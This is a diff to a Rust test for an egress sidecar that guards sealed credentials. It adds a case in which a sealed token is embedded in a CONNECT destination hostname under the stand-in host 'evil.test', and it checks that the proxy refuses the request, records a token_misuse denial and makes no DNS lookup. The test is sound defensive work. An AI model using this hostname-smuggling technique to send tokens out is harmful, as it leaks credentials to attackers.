@@ -363,6 +363,15 @@ async fn tripwire_refuses_tokens_sent_to_other_hosts() {
     let r = support::send(&mut s, req).await;
     assert_eq!(r.0, 403);
     assert_eq!(r.1["x-sealpod-deny-reason"], "token_misuse");
+    // Smuggled into the destination name (never resolved, never logged or reported as is).
+    let c = support::connect(h.running.listen, &format!("{SEALED_A}.evil.test:443"), &[]).await;
+    assert_eq!(c.status, 403);
+    assert!(
+        c.head.contains("x-sealpod-deny-reason: token_misuse"),
+        "{}",
+        c.head
+    );
+    assert!(h.net.lookups().is_empty());
     // Inside an intercepted connection: credential A's token sent to credential B's host.
     let mut c = h
         .intercepted("other-api.fake.test", "other-api.fake.test")
@@ -403,14 +412,14 @@ async fn tripwire_refuses_tokens_sent_to_other_hosts() {
     let m = h.metrics().await;
     assert_eq!(
         metric(&m, "sealpod_sidecar_denials_total{reason=\"token_misuse\"}"),
-        3
+        4
     );
-    let events = h.wait_for_events(3).await;
+    let events = h.wait_for_events(4).await;
     let misuse: Vec<_> = events
         .iter()
         .filter(|(_, e)| e["type"] == "egress.token_misuse")
         .collect();
-    assert_eq!(misuse.len(), 3, "{events:?}");
+    assert_eq!(misuse.len(), 4, "{events:?}");
     for (auth, e) in &events {
         assert_eq!(auth, "Bearer sink-token-1");
         let text = e.to_string();
